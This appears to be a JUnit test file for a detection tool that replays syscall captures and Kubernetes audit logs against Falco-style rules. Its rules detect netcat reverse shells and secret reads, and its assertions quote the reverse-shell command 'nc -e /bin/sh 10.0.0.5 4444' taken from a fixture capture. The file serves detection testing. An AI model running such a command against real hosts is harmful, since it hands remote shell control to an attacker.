// SPDX-License-Identifier: Apache-2.0
package io.gatehouse.cli.replay;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gatehouse.cli.Gatehouse;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Rules files and recordings on the command line.
class RulesAndCapturesTest {
    private static final String RULES = """
            - list: shells
              items: [bash, sh]
            - macro: spawned
              condition: evt.type in (execve, execveat)
            - rule: Netcat with a program
              desc: a program is tied to a connection
              condition: spawned and proc.name = nc and proc.args contains "-e "
              output: "netcat (command=%proc.cmdline container=%container.id)"
              priority: WARNING
              tags: [network]
            - rule: Any program
              desc: every program
              condition: spawned and not proc.name in (shells)
              output: "%proc.name"
              priority: DEBUG
            - rule: Secret read
              desc: somebody reads a secret
              source: k8s_audit
              condition: ka.verb = get and ka.target.resource = secrets
              output: "%ka.user.name reads %ka.target.name"
              priority: NOTICE
            - rule: Odd door
              desc: any JSON event
              source: json
              condition: json.value[/door] = open
              output: "door of %json.value[/house]"
              priority: INFO
            """;
    private static final String AUDIT = """
            {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1","stage":"ResponseComplete",\
            "requestURI":"/api/v1/namespaces/shop/secrets/key","verb":"get","user":{"username":"eve"},\
            "objectRef":{"resource":"secrets","namespace":"shop","name":"key"},\
            "stageTimestamp":"2026-01-02T03:04:05.000006Z"}
            """;

    @TempDir
    Path folder;

    private String rules;
    private String capture;

    private record Ran(int exit, String out, String err) {}

    @BeforeEach
    void files() throws IOException {
        rules = file("rules.yaml", RULES);
        capture = folder.resolve("netcat.scap").toString();
        try (var in = RulesAndCapturesTest.class.getResourceAsStream("netcat.scap")) {
            Files.copy(in, Path.of(capture));
        }
    }

    @Test
    void a_capture_raises_the_alerts_of_the_first_rule_or_of_all() {
        var first = run("replay", "-r", capture, "--utc", "--rules", rules);
        assertEquals(0, first.exit(), first.err());
        assertTrue(
                first.out().contains(": Warning netcat (command=nc -e /bin/sh 10.0.0.5 4444 container="), first.out());
        assertEquals(1, first.out().lines().count(), first.out());
        var all = run("replay", "-r", capture, "--matching", "all", "--summary", "--rules", rules);
        assertTrue(
                all.out().endsWith("1 event, 2 alerts\n       1  Any program\n       1  Netcat with a program\n"),
                all.out());
    }

    @Test
    void selections_and_priorities_decide_which_rules_are_asked() {
        assertTrue(run("replay", "-r", capture, "--select=-Netcat*", "--rules", rules)
                .out()
                .contains("Debug nc"));
        assertEquals(
                "",
                run("replay", "-r", capture, "--select=-#network", "--priority", "notice", "--rules", rules)
                        .out());
        var wrong = run("replay", "-r", capture, "--select=Netcat", "--rules", rules);
        assertEquals(2, wrong.exit());
        assertTrue(wrong.err().contains("+NAME, -NAME"), wrong.err());
    }

    @Test
    void an_audit_log_and_plain_json_are_told_apart_by_what_they_hold() throws IOException {
        var audit = run("replay", "-r", file("audit.log", AUDIT), "--json", "--rules", rules);
        assertTrue(audit.out().contains("\"output_fields\":{"), audit.out());
        assertTrue(audit.out().contains("\"ka.user.name\":\"eve\""), audit.out());
        assertTrue(audit.out().contains("\"time\":\"2026-01-02T03:04:05.000006000Z\""), audit.out());
        var json = run(
                "replay",
                "-r",
                file("doors", "{\"door\":\"open\",\"house\":\"7\"}\n{\"door\":\"shut\"}\n"),
                "--rules",
                rules);
        assertEquals(1, json.out().lines().count(), json.out());
        assertTrue(json.out().contains("Informational door of 7"), json.out());
    }

    /// The rest of the log is read, and the exit code says that something was not.
    @Test
    void a_broken_line_is_told_and_the_others_are_read() throws IOException {
        var ran = run("replay", "-r", file("audit.log", AUDIT + "{\"kind\": \n" + AUDIT), "--rules", rules);
        assertEquals(2, ran.exit());
        assertEquals(2, ran.out().lines().count(), ran.out());
        assertTrue(ran.err().contains("audit.log:2:"), ran.err());
    }

    @Test
    void fail_on_makes_an_alert_an_exit_code() {
        assertEquals(
                1,
                run("replay", "-r", capture, "--fail-on", "warning", "--rules", rules)
                        .exit());
        assertEquals(
                0,
                run("replay", "-r", capture, "--fail-on", "error", "--rules", rules)
                        .exit());
    }

    @Test
    void outputs_are_added_to_as_falco_appends() {
        var text = run(
                "replay", "-r", capture, "--source", "syscall", "--append-output", "by %user.name", "--rules", rules);
        assertTrue(text.out().endsWith("container=3ad7b26ed8e2) by root\n"), text.out());
        var json = run(
                "replay",
                "-r",
                capture,
                "--json",
                "--append-field",
                "proc.pid",
                "--append-field",
                "who=%user.name/%user.uid",
                "--suggested-output",
                "--source",
                "syscall",
                "--rules",
                rules);
        assertTrue(json.out().contains("\"proc.pid\":900"), json.out());
        assertTrue(json.out().contains("\"who\":\"root/0\""), json.out());
        assertTrue(json.out().contains("container_id=3ad7b26ed8e2 container_name=web"), json.out());
        // a field that rules of another source cannot know is told, not printed as missing
        assertEquals(
                2,
                run("replay", "-r", capture, "--append-output", "by %user.name", "--rules", rules)
                        .exit());
        var wrong = run("replay", "-r", capture, "--append-output", "%user.nmae", "--rules", rules);
        assertEquals(2, wrong.exit());
        assertTrue(wrong.err().contains("--append-output:1:2"), wrong.err());
    }

    @Test
    void fields_are_listed_by_source_and_part() {
        var names = run("fields", "--source", "k8s_audit", "-N");
        assertTrue(names.out().contains("ka.verb\n") && !names.out().contains("proc.name\n"), names.out());
        assertTrue(run("fields", "proc.aname").out().contains("proc.aname[?]"), names.out());
        assertTrue(run("fields", "ka.verb", "--output", "json").out().contains("\"name\" : \"ka.verb\""));
        assertTrue(run("fields", "ka.verb", "--output", "markdown").out().contains("| `ka.verb` |"));
        assertEquals(2, run("fields", "no.such").exit());
        assertTrue(run("capture", "-l").out().contains("proc.name"));
    }

    @Test
    void a_capture_ends_where_it_is_told_and_shows_time_as_asked() {
        assertEquals(
                run("capture", "-r", capture, "-p", "%evt.num").out(),
                run("capture", "-r", capture, "-M", "1", "-p", "%evt.num").out());
        assertEquals(
                "2026-01-01 00:00:00.002000000 nc\n",
                run("capture", "-r", capture, "--utc", "-t", "h", "-p", "%evt.outputtime %proc.name")
                        .out());
    }

    @Test
    void a_question_is_answered_part_by_part() {
        var ran = run("replay", "-r", capture, "--explain", "Netcat with a program", "--event", "2", "--rules", rules);
        assertTrue(
                ran.out().startsWith("event 2, rule 'Netcat with a program'\nyes  all of\nyes    evt.type in "),
                ran.out());
        assertEquals(
                2,
                run("replay", "-r", capture, "--explain", "None", "--rules", rules)
                        .exit());
    }

    @Test
    void a_cut_capture_gives_what_it_has_and_says_where_it_ends() throws IOException {
        var bytes = Files.readAllBytes(Path.of(capture));
        var cut = folder.resolve("cut.scap");
        Files.write(cut, Arrays.copyOf(bytes, bytes.length - 3));
        var ran = run("capture", "-r", cut.toString(), "-p", "%evt.num");
        assertEquals(2, ran.exit());
        assertEquals("2\n", ran.out());
        assertTrue(ran.err().contains("GH-160") && ran.err().contains("at byte"), ran.err());
        var none = run("capture", "-r", folder.resolve("none").toString());
        assertEquals(2, none.exit());
        assertTrue(none.err().contains("there is no capture"), none.err());
    }

    /// A block of a later version of the format, put behind the last: skipped, and said.
    @Test
    void what_is_not_known_of_a_capture_is_counted_and_told() throws IOException {
        byte[] plain;
        try (var in = new GZIPInputStream(Files.newInputStream(Path.of(capture)))) {
            plain = in.readAllBytes();
        }
        var later = ByteBuffer.allocate(plain.length + 16).order(ByteOrder.LITTLE_ENDIAN);
        later.put(plain).putInt(0x7777).putInt(16).putInt(0).putInt(16);
        var file = folder.resolve("later.scap");
        Files.write(file, later.array());
        var ran = run("capture", "-r", file.toString(), "-p", "%evt.num");
        assertEquals(0, ran.exit(), ran.err());
        assertTrue(ran.err().contains("1 blocks of unknown types were skipped"), ran.err());
    }

    @Test
    void a_capture_prints_events_that_pass_the_filter_as_asked() {
        assertTrue(run("capture", "-r", capture, "--utc", "evt.type=execve")
                .out()
                .startsWith("2 00:00:00.002000000 0 nc ("));
        assertEquals(
                "nc execve\n",
                run("capture", "-r", capture, "-p", "%proc.name %evt.type", "evt.type=execve")
                        .out());
        // without a star a line that lacks a value is left out
        assertEquals(
                "",
                run("capture", "-r", capture, "-p", "%fd.name", "evt.type=execve")
                        .out());
        assertEquals(
                "<NA>\n",
                run("capture", "-r", capture, "-p", "*%fd.name", "evt.type=execve")
                        .out());
        assertEquals(
                "{\"evt.num\":2,\"fd.name\":null}\n",
                run("capture", "-r", capture, "-j", "-p", "%evt.num %fd.name", "evt.type=execve")
                        .out());
        assertEquals(
                1,
                run("capture", "-r", capture, "-n", "1", "-p", "%evt.num")
                        .out()
                        .lines()
                        .count());
    }

    @Test
    void a_wrong_filter_or_format_is_refused_with_its_place() {
        var filter = run("capture", "-r", capture, "proc.nmae=nc");
        assertEquals(2, filter.exit());
        assertTrue(filter.err().contains("did you mean 'proc.name'?"), filter.err());
        var format = run("capture", "-r", capture, "-p", "%proc.nmae");
        assertEquals(2, format.exit());
        assertTrue(format.err().contains("GH-12"), format.err());
    }

    /// A reader of the copy must know the same of the events in it: here what program runs, told by an event that is
    /// not in it.
    @Test
    void a_copy_keeps_the_state_behind_the_events_it_keeps() {
        var copy = folder.resolve("copy.scap").toString();
        assertEquals(
                0,
                run("capture", "-r", capture, "-w", copy, "-z", "evt.type=execve")
                        .exit());
        assertEquals(
                "nc app-worker\n",
                run("capture", "-r", copy, "-p", "%proc.name %proc.pname").out());
        var itself = run("capture", "-r", capture, "-w", capture);
        assertEquals(2, itself.exit());
        assertTrue(itself.err().contains("over itself"), itself.err());
    }

    @Test
    void rules_are_validated_listed_described_and_explained() throws IOException {
        var valid = run("rules", "validate", rules);
        assertEquals(0, valid.exit(), valid.err());
        assertTrue(valid.out().startsWith("4 rules are in order, 4 of them in force, sha256:"), valid.out());
        var wrong = file(
                "wrong.yaml", RULES.replace("proc.name = nc", "proc.nmae = nc").replace("in (shells)", "in (shells"));
        var refused = run("rules", "validate", wrong);
        assertEquals(2, refused.exit());
        assertTrue(refused.err().contains("GH-1203") && refused.err().contains("wrong.yaml:7:"), refused.err());
        assertTrue(refused.err().contains("wrong.yaml:13:"), "everything wrong at once: " + refused.err());
        var json = run("rules", "validate", "--output", "json", wrong);
        assertTrue(json.out().startsWith("{\"falco_load_results\":[{\"name\":"), json.out());
        assertTrue(json.out().contains("\"code\":\"LOAD_ERR_COMPILE_CONDITION\""), json.out());
        assertEquals(
                List.of("Netcat with a program", "Any program", "Secret read", "Odd door"),
                run("rules", "list", rules)
                        .out()
                        .lines()
                        .map(line -> line.substring(28))
                        .toList());
        var described = run("rules", "describe", "Any program", rules);
        assertTrue(described.out().contains("events     asyncevent, execve, execveat"), described.out());
        var explained = run("rules", "explain", "Netcat with a program", rules);
        assertTrue(explained.out().contains("(evt.type in (execve, execveat) and proc.name = nc"), explained.out());
        assertTrue(explained.out().contains("execve, execveat: program is nc"), explained.out());
        assertEquals(2, run("rules", "explain", "No such rule", rules).exit());
    }

    @Test
    void a_test_file_holds_rules_to_what_they_must_tell() throws IOException {
        file("shells.test.yaml", """
                apiVersion: gatehouse.io/v1alpha1
                kind: PolicyTest
                rules: [rules.yaml]
                matching: first
                cases:
                  - {name: netcat, events: netcat.scap, alerts: {Netcat with a program: 1}}
                  - {name: too much, events: netcat.scap, alerts: {}}
                  - {name: lost, events: none.scap, alerts: {}}
                """);
        var xml = folder.resolve("junit.xml");
        var ran = run("policy", "test", folder.toString(), "--junit", xml.toString());
        assertEquals(2, ran.exit(), ran.err());
        assertTrue(ran.out().contains("pass  " + folder.resolve("shells.test.yaml") + ": netcat"), ran.out());
        assertTrue(ran.out().contains("Netcat with a program: not expected, fired 1"), ran.out());
        assertTrue(ran.out().endsWith("1 passed, 1 failed, 0 skipped, 1 could not be read\n"), ran.out());
        assertTrue(Files.readString(xml).contains("<testsuites tests=\"3\" failures=\"1\" errors=\"1\""));
    }

    /// A loop of links, and files that are no UTF-8, were told as faults of the program.
    @Test
    void what_cannot_be_read_is_a_trial_that_says_so() throws IOException {
        Files.write(folder.resolve("binary.test.yaml"), new byte[] {(byte) 0xff, (byte) 0xfe});
        var fail = Files.createDirectories(folder.resolve("p/fail"));
        file("p/policy.yaml", """
                apiVersion: gatehouse.io/v1alpha1
                kind: ClusterWorkloadPolicy
                metadata: {name: immutable}
                spec: {mode: audit, admission: {readOnlyRootFilesystem: {required: true}}}
                """);
        Files.write(fail.resolve("binary.yaml"), new byte[] {(byte) 0xff, '\n'});
        Files.createSymbolicLink(folder.resolve("loop"), folder);
        var ran = run("policy", "test", folder.toString());
        assertEquals(2, ran.exit(), ran.err());
        assertTrue(ran.out().endsWith("0 passed, 0 failed, 0 skipped, 2 could not be read\n"), ran.out());
    }

    @Test
    void the_examples_beside_shipped_policies_hold() {
        var shipped =
                Path.of(System.getProperty("gatehouse.root"), "policies/src/main/resources/io/gatehouse/policies");
        var ran = run("policy", "test", shipped.toString());
        assertEquals(0, ran.exit(), ran.out());
        assertTrue(ran.out().contains(", 0 failed, "), ran.out());
        var none = run("policy", "test", folder.toString());
        assertEquals(2, none.exit());
    }

    private String file(String name, String text) throws IOException {
        var file = folder.resolve(name);
        Files.writeString(file, text);
        return file.toString();
    }

    private static Ran run(String... args) {
        var out = new StringWriter();
        var err = new StringWriter();
        int exit = Gatehouse.commandLine()
                .setOut(new PrintWriter(out, true))
                .setErr(new PrintWriter(err, true))
                .execute(args);
        return new Ran(exit, out.toString(), err.toString());
    }
}
